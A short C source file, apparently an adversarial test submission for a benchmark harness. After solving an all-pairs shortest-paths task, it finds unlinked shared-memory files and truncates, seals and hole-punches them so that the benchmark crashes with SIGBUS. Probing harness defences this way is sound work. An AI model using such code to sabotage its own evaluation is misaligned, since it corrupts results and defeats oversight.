// Harms the memory that it shares with the benchmark: cuts it off, makes holes in it, seals it. The benchmark would
// die of SIGBUS, or could never make it larger again.
#include <sys/mman.h>

#include "attack.h"

void apsp(int n, int* graph) {
  solve(n, graph);
  for (int descriptor = 3; descriptor < 64; ++descriptor) {
    struct stat status;
    if (fstat(descriptor, &status) != 0 || !S_ISREG(status.st_mode) || status.st_nlink != 0) continue;
    if (ftruncate(descriptor, 0) == 0) _exit(7);
    if (fcntl(descriptor, F_ADD_SEALS, F_SEAL_WRITE | F_SEAL_SEAL) == 0) _exit(7);
    fallocate(descriptor, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096);
  }
}
